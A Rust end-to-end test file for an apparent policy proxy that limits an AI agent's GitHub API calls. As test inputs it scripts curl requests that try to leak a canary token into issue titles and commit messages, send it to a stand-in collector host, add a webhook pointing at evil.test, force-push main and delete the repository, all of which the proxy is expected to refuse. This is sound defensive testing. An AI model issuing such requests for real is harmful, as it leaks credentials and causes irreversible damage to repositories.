//! The guarded policy as a story: a developer has a GitHub token and no configuration that names agents, and an agent
//! sets out to do what an agent once did: commit to main forty-seven times, put data into issue titles, invite a bot.

use std::collections::BTreeMap;
use std::fmt::Write as _;

use e2e::house::binary;
use e2e::{House, Receipt};
use serde_json::{Value, json};
use testkit::process::{Finished, finish};
use testkit::{Answer, Canary, Upstream};

struct Story {
    upstream: Upstream,
    house: House,
    token: Canary,
}

impl Story {
    fn begin() -> Self {
        let upstream = Upstream::builder().handler(|_| Some(Answer::json(&json!({"number": 7})))).start();
        let token = Canary::new(501, "ghp_", 36);
        let config = format!("version: 1\nupstreams:\n{}", upstream.entry("api.github.com"));
        let house = House::new(&config, &[("GITHUB_TOKEN", &token.value())]);
        Self { upstream, house, token }
    }

    /// `run` of these requests, one after the other; `METHOD URL BODY` each.
    fn tell(&self, requests: &[(&str, &str, String)]) -> (Vec<(u16, Value)>, Finished, Receipt) {
        let mut script = String::from("set -e\n");
        for (number, (method, url, body)) in requests.iter().enumerate() {
            std::fs::write(self.house.path(&format!("ask-{number}")), body).unwrap();
            let data = if body.is_empty() { String::new() } else { format!("--data-binary @ask-{number}") };
            // The token goes where it belongs, and once where it does not.
            let token = if url.contains("collector.test/plain") { "" } else { "Authorization: Bearer $GITHUB_TOKEN" };
            let _ = writeln!(
                script,
                "curl -sS -o got-{number} -w '%{{http_code}}\\n' -X {method} {data} -H 'Content-Type: application/json' \
                 -H \"{token}\" '{url}'"
            );
        }
        std::fs::write(self.house.path("agent.sh"), script).unwrap();
        let receipt = self.house.path("receipt.json");
        let mut command = self.house.clean(binary());
        command.arg("run").arg("--config").arg(self.house.config()).arg("--receipt").arg(&receipt);
        command.args(["--", "sh", "agent.sh"]);
        let finished = finish(&mut command, std::time::Duration::from_mins(1)).expect_success("the agent");
        let receipt: Value = serde_json::from_str(&std::fs::read_to_string(receipt).unwrap()).unwrap();
        let answers = finished.stdout.lines().enumerate().map(|(number, status)| {
            let body = std::fs::read(self.house.path(&format!("got-{number}"))).unwrap_or_default();
            (status.parse().unwrap(), serde_json::from_slice(&body).unwrap_or(Value::Null))
        });
        let answers: Vec<_> = answers.collect();
        assert_eq!(answers.len(), requests.len(), "{}\n{}", finished.stdout, finished.stderr);
        self.token.assert_absent("the agent's output", finished.stdout.as_bytes());
        (answers, finished, Receipt(receipt))
    }

    /// What arrived: method and path.
    fn arrived(&self) -> BTreeMap<String, usize> {
        let mut all = BTreeMap::new();
        for seen in self.upstream.journal().take() {
            assert_eq!(seen.count(&self.token.value()), 1, "{seen:?}");
            *all.entry(format!("{} {}", seen.method, seen.path())).or_default() += 1;
        }
        all
    }
}

const API: &str = "https://api.github.com";

fn assert_refused(what: &str, (status, problem): &(u16, Value), code: &str) {
    assert_eq!((*status, problem["code"].as_str()), (403, Some(code)), "{what}: {problem}");
    assert!(problem["error"].as_str().is_some_and(|text| !text.is_empty()), "{what}: {problem}");
}

fn assert_hinted(what: &str, problem: &Value) {
    assert!(problem["hint"].as_str().is_some_and(|text| !text.is_empty()), "{what} has no hint: {problem}");
}

#[test]
fn reads_pass_and_the_thirty_first_write_asks() {
    let story = Story::begin();
    let url = format!("{API}/repos/acme/widget/issues");
    let mut requests =
        vec![("GET", url.as_str(), String::new()), ("GET", "https://api.github.com/user", String::new())];
    requests.extend((1..=31).map(|number| ("POST", url.as_str(), json!({"title": format!("t{number}")}).to_string())));
    // Another action has its own thirty.
    let comment = format!("{API}/repos/acme/widget/issues/7/comments");
    requests.push(("POST", &comment, json!({"body": "hello"}).to_string()));
    let (answers, finished, receipt) = story.tell(&requests);
    let statuses: Vec<u16> = answers.iter().map(|(status, _)| *status).collect();
    assert_eq!(statuses[..32], [200; 32], "{answers:?}");
    assert_refused("the 31st", &answers[32], "denied");
    assert_hinted("the 31st", &answers[32].1);
    assert_eq!(statuses[33], 200, "{:?}", answers[33]);
    let arrived = story.arrived();
    assert_eq!(arrived["POST /repos/acme/widget/issues"], 30);
    assert_eq!(arrived.values().sum::<usize>(), 33);
    assert_eq!(
        (receipt.count("requests"), receipt.count("allowed"), receipt.count("denied")),
        (34, 33, 1),
        "{}",
        receipt.0
    );
    // The rule to add is in the receipt on standard error.
    assert!(finished.stderr.contains("issues/create"), "{}", finished.stderr);
    story.house.assert_audit();
}

#[test]
fn what_cannot_be_taken_back_is_refused() {
    let story = Story::begin();
    let repo = format!("{API}/repos/acme/widget");
    let file = |branch: &str| json!({"message": "m", "content": "aGk=", "branch": branch}).to_string();
    let asked: Vec<(&str, String, String)> = vec![
        ("PUT", format!("{repo}/contents/src/lib.rs"), file("main")),
        ("PUT", format!("{repo}/contents/src/lib.rs"), json!({"message": "m", "content": "aGk="}).to_string()),
        ("POST", format!("{repo}/merges"), json!({"base": "main", "head": "agent/x"}).to_string()),
        ("PUT", format!("{repo}/pulls/42/merge"), json!({"merge_method": "squash"}).to_string()),
        ("PATCH", format!("{repo}/git/refs/heads/main"), json!({"sha": "a".repeat(40), "force": true}).to_string()),
        ("PUT", format!("{repo}/collaborators/bot"), json!({"permission": "push"}).to_string()),
        ("DELETE", repo.clone(), String::new()),
        ("DELETE", format!("{repo}/issues/comments/7"), String::new()),
        ("POST", format!("{repo}/releases"), json!({"tag_name": "v1"}).to_string()),
        ("POST", format!("{repo}/hooks"), json!({"config": {"url": "https://evil.test"}}).to_string()),
        ("POST", format!("{repo}/keys"), json!({"key": "ssh-ed25519 AAAA"}).to_string()),
        // What is the agent's own passes.
        ("PUT", format!("{repo}/contents/src/lib.rs"), file("agent/x")),
    ];
    let requests: Vec<_> = asked.iter().map(|(method, url, body)| (*method, url.as_str(), body.clone())).collect();
    let (answers, _, receipt) = story.tell(&requests);
    for ((method, url, _), answer) in asked.iter().zip(&answers).take(asked.len() - 1) {
        assert_refused(&format!("{method} {url}"), answer, "denied");
        assert_hinted(&format!("{method} {url}"), &answer.1);
    }
    assert_eq!(answers[asked.len() - 1].0, 200, "{:?}", answers.last());
    assert_eq!(story.arrived(), BTreeMap::from([("PUT /repos/acme/widget/contents/src/lib.rs".to_owned(), 1)]));
    let counts = (receipt.count("requests"), receipt.count("allowed"), receipt.count("denied"));
    assert_eq!(counts, (12, 1, 11), "{}", receipt.0);
    story.house.assert_audit();
}

#[test]
fn a_known_secret_in_a_body_is_stopped_and_a_strange_host_refused() {
    let story = Story::begin();
    let issue = format!("{API}/repos/acme/widget/issues");
    let leak = json!({"title": format!("the token is {}", story.token.value())}).to_string();
    let merge = format!("{API}/repos/acme/widget/pulls/1/merge");
    let late = json!({"commit_message": format!("{} {}", "x".repeat(400_000), story.token.value())}).to_string();
    let requests = [
        ("POST", issue.as_str(), leak),
        ("GET", "https://collector.test/plain", String::new()),
        ("GET", "https://collector.test/upload", String::new()),
        ("POST", issue.as_str(), json!({"title": "nothing to see"}).to_string()),
        ("PUT", merge.as_str(), late),
    ];
    let (answers, _, receipt) = story.tell(&requests);
    assert_refused("a body with the token", &answers[0], "secret_in_request");
    assert_refused("a long body that is read for a question", &answers[4], "secret_in_request");
    let (status, problem) = &answers[1];
    assert_eq!(*status, 403, "{problem}");
    assert!(matches!(problem["code"].as_str(), Some("denied" | "unknown_host")), "{problem}");
    assert_hinted("a host that nobody knows", problem);
    assert_refused("the placeholder at a strange host", &answers[2], "placeholder_foreign");
    assert_eq!(answers[3].0, 200);
    assert_eq!(story.arrived(), BTreeMap::from([("POST /repos/acme/widget/issues".to_owned(), 1)]));
    let counts = (receipt.count("requests"), receipt.count("allowed"), receipt.count("denied"));
    assert_eq!(counts, (5, 1, 4), "{}", receipt.0);
    story.house.assert_audit();
}
